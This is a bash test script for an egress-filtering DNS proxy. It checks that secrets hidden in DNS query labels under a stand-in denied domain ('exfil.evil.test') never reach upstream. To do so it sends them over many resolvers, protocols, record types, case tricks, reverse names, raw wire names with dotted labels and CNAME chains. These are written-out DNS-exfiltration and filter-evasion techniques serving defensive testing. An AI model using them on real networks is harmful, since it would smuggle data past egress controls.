#!/bin/bash
# threat_10_exfil (THREATS §10, §7): the sandbox hides data in the labels
# of names under a denied domain and sends them every way it can: the
# system resolver over UDP and TCP, hard-coded resolver addresses (IPv4
# and IPv6, UDP and TCP), egressd's own port, the metadata address as a
# resolver, many query types, reverse names, 0x20 case and a trailing dot,
# and raw wire names whose labels contain dots or NULs so that a careless
# presentation form would look like an allowed name. The fake upstream's
# query log must never see any of it, while allowed names do arrive (so
# the log really records what egressd forwards). A CNAME into a denied
# name makes egressd ask nothing more about the target.
set -u -o pipefail
. "$(dirname "$0")/../lib/testbed.sh"
tb_setup

pol=$(tb_policy_file policy.yaml <<'EOF'
defaultAction: deny
egress:
  - {action: allow, target: a.test}
  - {action: allow, target: "*.a.test"}
  - {action: allow, target: cname-bad.test}
EOF
)
tb_start_egressd --policy "$pol"

secret=aGVsbG8td29ybGQtc2VjcmV0LTQy
q() { tb_sandbox dig +time=2 +tries=1 "$@" 2>&1; }
status() { sed -n 's/.*status: \([A-Z]*\).*/\1/p' <<<"$1"; }

# The log does record what egressd forwards: an allowed name (which the
# zone does not have) goes upstream and comes back NXDOMAIN from there.
tb_expect_eq "an allowed name is forwarded" NXDOMAIN \
    "$(status "$(q "$secret.x.a.test" A)")"
tb_assert_dns_query dns1 "$secret\\.x\\.a\\.test"

# --- every path, every type ---------------------------------------------------------
n=0
for how in "" "+tcp" "@$TB_RESOLVER_X4" "+tcp @$TB_RESOLVER_X4" \
    "@$TB_RESOLVER_X6" "+tcp @$TB_RESOLVER_X6" "-p 15353 @127.0.0.1" \
    "+tcp -p 15353 @::1" "@$TB_META4"; do
	n=$((n + 1))
	# shellcheck disable=SC2086 # $how is a list of dig arguments
	out=$(q $how "c$n.$secret.exfil.evil.test" TXT)
	tb_expect_eq "denied name via '${how:-resolv.conf}': NXDOMAIN" NXDOMAIN \
	    "$(status "$out")"
done
for t in A AAAA TXT MX NULL ANY HTTPS SRV CAA; do
	out=$(q "t-$t.$secret.exfil.evil.test" "$t")
	tb_expect_match "type $t: NXDOMAIN or refused locally" \
	    "^(NXDOMAIN|NOTIMP|REFUSED)$" "$(status "$out")"
done
out=$(q "CaSe.${secret^^}.ExFiL.EvIl.TeSt." A)
tb_expect_eq "0x20 case and a trailing dot: NXDOMAIN" NXDOMAIN "$(status "$out")"
out=$(q -x 198.51.100.77)
tb_expect_eq "a reverse name (data in the address): NXDOMAIN" NXDOMAIN \
    "$(status "$out")"

# --- wire names a careless presentation form would misread ---------------------------
raw=$(tb_sandbox "$TB_PY" - <<'EOF'
import socket, struct
def ask(wire, tcp=False):
    m = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + wire + b"\0\x01\0\x01"
    if tcp:
        s = socket.create_connection(("127.0.0.1", 15353), timeout=2)
        s.sendall(struct.pack(">H", len(m)) + m)
        r = s.recv(2) and s.recv(4096)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(m, ("198.51.100.1", 53))   # redirected to egressd
        r = s.recv(4096)
    s.close()
    return "rcode%d" % (r[3] & 15) if r[:2] == b"\x51\x51" else "bad"
def lab(*ls):
    return b"".join(bytes([len(l)]) + l for l in ls) + b"\0"
# One label "dotlbl.a.test": as text it ends like the allowed a.test.
print("dot_label", ask(lab(b"dotlbl.a.test")))
print("dot_label_tcp", ask(lab(b"dotlbl.a.test"), tcp=True))
EOF
)
echo "$raw" | sed 's/^/# /'
tb_expect_match "one label 'dotlbl.a.test' (UDP) is not forwarded as a.test" \
    "^dot_label rcode[1-5]$" "$(grep '^dot_label ' <<<"$raw")"
tb_expect_match "same over TCP" "^dot_label_tcp rcode[1-5]$" \
    "$(grep '^dot_label_tcp ' <<<"$raw")"

# --- CNAME into a denied name --------------------------------------------------------
tb_expect_eq "allowed alias of denied b.test: NXDOMAIN" NXDOMAIN \
    "$(status "$(q cname-bad.test A)")"
tb_assert_dns_query dns1 'cname-bad\.test'

# --- what the upstream saw -----------------------------------------------------------
tb_assert_no_dns_query dns1 ".*exfil.*"
tb_assert_no_dns_query dns1 ".*evil.*"
tb_assert_no_dns_query dns1 ".*dotlbl.*"
tb_assert_no_dns_query dns1 '(www\.)?b\.test'
tb_assert_no_dns_query dns1 '.*in-addr\.arpa'
tb_assert_no_log "$TB_ECHO_LOG" '*' server.port=53
tb_assert_log "$TB_EGRESSD_LOG" dns.deny "name~exfil\\.evil\\.test$"
tb_finish
